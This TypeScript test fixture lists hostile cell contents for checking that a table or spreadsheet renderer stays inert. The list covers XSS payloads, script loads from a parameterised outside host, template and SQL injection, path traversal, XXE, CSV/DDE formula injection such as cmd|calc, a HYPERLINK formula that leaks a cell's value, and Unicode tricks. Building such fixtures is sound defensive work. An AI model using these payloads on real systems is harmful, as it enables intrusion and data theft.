/** Name of the flag that a script in a cell would set, were it ever run. */
export const flag = 'ranFromACell';

const run = `window.${flag}=1`;

/** Texts that a page or spreadsheet could take for something to be run, fetched or computed. */
function scripts(outside: string): readonly string[] {
  return [
    `<script>${run}</script>`,
    `<script src="${outside}/s.js"></script>`,
    `</title><script>${run}</script>`,
    `</script><script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${outside}/i.png">`,
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${flag}=1</script>"></iframe>`,
    `<object data="${outside}/o"></object>`,
    `<embed src="${outside}/e">`,
    `<link rel=stylesheet href="${outside}/c.css">`,
    `<style>@import url(${outside}/c.css);</style>`,
    `<div style="background:url(${outside}/b.png)">x</div>`,
    `<base href="${outside}/">`,
    `<meta http-equiv=refresh content="0;url=${outside}/r">`,
    `<form action="${outside}/f"><button autofocus>x</button></form>`,
    `<input autofocus onfocus="${run}">`,
    `<details open ontoggle="${run}">x</details>`,
    `<body onload="${run}">`,
    `<a href="javascript:${run}">x</a>`,
    `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    `"><img src=x onerror=${run}>`,
    `' autofocus onfocus='${run}`,
    `javascript:${run}`,
    `JaVaScRiPt:${run}//`,
    `java\tscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `vbscript:msgbox(1)`,
    `${outside}/a?b=c#d`,
    `//${outside.replace(/^https?:\/\//, '')}/p`,
    `url(${outside}/u.png)`,
    `<!--<img src="--><img src=x onerror=${run}//">`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${outside}/x">]><x>&e;</x>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `<scr\u0001ipt>${run}</scr\u0001ipt>`,
    `<ſcript>${run}</ſcript>`,
    `<img/src=x/onerror=${run}>`,
    '<marquee onstart=alert(1)>x</marquee>',
    '<script>alert(1)</script>',
    '<img src=x onerror=confirm(1)>',
    '<template><script>prompt(1)</script></template>',
  ];
}

const templates: readonly string[] = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[[${run}]]`,
  `{%raw%}${run}{%endraw%}`,
  `\`+${run}+\``,
  `datum.constructor.constructor('${run}')()`,
  '__proto__',
  'constructor',
  'toString',
  '$& $1 $`',
  "'; DROP TABLE units; --",
  "' OR '1'='1",
  "\"); COPY units TO 'x.csv'; --",
  '%s%n%x%d',
  '..\\..\\..\\etc\\passwd',
  '../../../../etc/passwd',
  'C:\\Windows\\win.ini',
  'null',
  'undefined',
  'NaN',
  '%',
  '%E0%A4%A',
];

const marks: readonly string[] = [
  '\u202Egpj.exe',
  '\u2066left\u2069\u2067right\u2069',
  '\u200Fשלום\u200E',
  'مرحبا بالعالم',
  '\u0001',
  'a\u0002b',
  'bell\u0007 escape\u001b[31mred',
  'vertical\u000Bform\u000Cend\u007F',
  '\u0085\u2028\u2029lines',
  '\uFFFE\uFFFF none',
  '\u{1F480}\u200D\u{1F6E2}\uFE0F',
  'Z̸̢̗a̷͚̓l̶̰͝g̵̝̈o̶̼͂',
  'zero\u200Bwidth\u2060joiner\uFEFF',
  'W'.repeat(5_000),
  'long words '.repeat(400),
  '\u0301accent first',
];

/** Texts that a spreadsheet would compute. */
export const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://127.0.0.1:9/"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '-',
];

/** A hundred hostile contents of a cell but for zero bytes, which no file of text may hold; `outside` is the address of another site. */
export function hostileTexts(outside: string): readonly string[] {
  return [...scripts(outside), ...templates, ...marks, ...formulas];
}
